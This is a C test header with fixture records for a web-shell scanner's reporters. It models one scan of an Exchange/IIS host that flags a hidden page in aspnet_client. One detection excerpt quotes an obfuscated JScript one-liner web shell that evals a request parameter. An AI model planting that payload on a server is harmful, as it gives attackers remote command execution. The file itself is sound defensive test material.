/* Records as a scan would tell them, for the tests of the reporters. */
#ifndef AXR_TEST_RECORDS_H
#define AXR_TEST_RECORDS_H

#include "aspxray.h"

#include "../test.h"

static inline struct axr_time at(int64_t seconds)
{
	struct axr_time time = { .sec = 1614744306 + seconds, .nsec = 5000000, .known = true };

	return time;
}

/* A page in aspnet_client, 2021-03-03, with all that there is to know. */
static inline struct axr_file shell_file(void)
{
	struct axr_file file = {
		.path = axr_span_str("C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx"),
		.name = axr_span_str("x.aspx"),
		.directory = axr_span_str("C:\\inetpub\\wwwroot\\aspnet_client"),
		.extension = axr_span_str("aspx"),
		.relative = axr_span_str("aspnet_client/x.aspx"),
		.owner = axr_span_str("NT AUTHORITY\\SYSTEM"),
		.size = 2318,
		.attributes = AXR_ATTR_HIDDEN | AXR_ATTR_SYSTEM,
		.created = at(0),
		.mtime = at(1),
		.ctime = at(60),
		.accessed = at(3600),
		.digests = AXR_MD5 | AXR_SHA1 | AXR_SHA256,
		.label = "",
		.mime = axr_span_str("text/html"),
	};

	memset(file.md5, 0x11, sizeof(file.md5));
	memset(file.sha1, 0x22, sizeof(file.sha1));
	memset(file.sha256, 0x33, sizeof(file.sha256));
	return file;
}

static const struct axr_reason shell_reasons[] = {
	{ .detector = "yara", .rule = "one_liner_jscript",
	  .title = "evaluates what the request holds, as JScript", .score = 92, .layer = "utf-7",
	  .located = true, .offset = 120, .line = 3,
	  .excerpt = AXR_SPAN_LIT("<script language=\"JScript\" runat=\"server\">function Page_"
				  "Load(){ev\xc2\xad" "al(Req\xe2\x80\xae" "uest[\"k\"],\"unsafe\")}"
				  "</script>"),
	  .technique = "T1505.003", .author = "aspxray", .reference = "https://example.org/a",
	  .ruleset = "one-liner" },
	{ .detector = "script", .rule = "request-to-eval",
	  .title = "what the client sends reaches eval", .score = 85, .layer = "utf-7/canonical",
	  .located = true, .offset = 131, .line = 3, .from_line = 2, .technique = "T1059.007" },
	{ .detector = "place", .rule = "aspnet-client",
	  .title = "a server page in aspnet_client, where only scripts for the browser belong",
	  .score = 40, .layer = "raw" },
};

static const struct axr_span shell_urls[] = {
	AXR_SPAN_LIT("https://mail.example.com/aspnet_client/x.aspx"),
};

static inline struct axr_finding shell_finding(const struct axr_file *file)
{
	struct axr_finding finding = {
		.file = file,
		.file_class = AXR_CLASS_UNEXPECTED,
		.level = AXR_MALICIOUS,
		.score = 97,
		.reasons = shell_reasons,
		.reason_count = 3,
		.urls = shell_urls,
		.url_count = 1,
		.serving = "PageHandlerFactory-Integrated-4.0",
		.next = "Isolate the server.\nKeep the file.",
		.id = "0123456789abcdef0123456789abcdef",
	};

	return finding;
}

static const struct axr_root scan_roots[] = {
	{ .path = AXR_SPAN_LIT("C:\\inetpub\\wwwroot"), .origin = "applicationHost.config",
	  .dirs = 56, .seen = 1240, .hashed = 1237, .scanned = 1234, .known = 3, .failed = 3,
	  .bytes = 12345678, .skipped = { [AXR_SKIP_LINK] = 10, [AXR_SKIP_SPECIAL] = 1 } },
	{ .path = AXR_SPAN_LIT("E:\\Exchange"), .origin = "registry", .missing = true },
};

static inline struct axr_start scan_start(void)
{
	struct axr_start start = {
		.time = at(0),
		.host = "EXCH01",
		.roots = scan_roots,
		.root_count = 2,
		.rules = 312,
		.iocs = 450,
		.build = "15.2.858.5 (registry)",
		.backup_privilege = "not held",
	};

	memset(start.rules_id, 'a', 64);
	return start;
}

static inline struct axr_end scan_end(void)
{
	struct axr_end end = {
		.time = at(13),
		.seconds = 12.345678901,
		.roots = scan_roots,
		.root_count = 2,
		.total = scan_roots[0],
		.problems = 2,
		.exit_status = 7,
	};

	end.total.path = axr_span(NULL, 0);
	end.total.origin = "";
	end.by_level[AXR_CLEAN] = 1233;
	end.by_level[AXR_MALICIOUS] = 1;
	end.by_class[AXR_CLASS_UNEXPECTED] = 1;
	end.by_class[AXR_CLASS_MATCH] = 1233;
	return end;
}

static inline struct axr_problem open_problem(void)
{
	struct axr_problem problem = {
		.trouble = AXR_TROUBLE_OPEN,
		.path = axr_span_str("C:\\inetpub\\wwwroot\\locked.aspx"),
		.code = 13,
		.text = axr_span_str("Permission denied"),
		.incomplete = true,
	};

	return problem;
}

static inline struct axr_record start_record(const struct axr_start *start)
{
	struct axr_record record = { .kind = AXR_RECORD_START, .time = start->time };

	record.start = start;
	return record;
}

static inline struct axr_record finding_record(const struct axr_finding *finding)
{
	struct axr_record record = { .kind = AXR_RECORD_FINDING, .time = at(5) };

	record.finding = finding;
	return record;
}

static inline struct axr_record problem_record(const struct axr_problem *problem)
{
	struct axr_record record = { .kind = AXR_RECORD_PROBLEM, .time = at(6) };

	record.problem = problem;
	return record;
}

static inline struct axr_record state_record(const struct axr_file *file)
{
	struct axr_record record = { .kind = AXR_RECORD_STATE, .time = at(7) };

	record.file = file;
	return record;
}

static inline struct axr_record end_record(const struct axr_end *end)
{
	struct axr_record record = { .kind = AXR_RECORD_END, .time = end->time };

	record.end = end;
	return record;
}

#endif
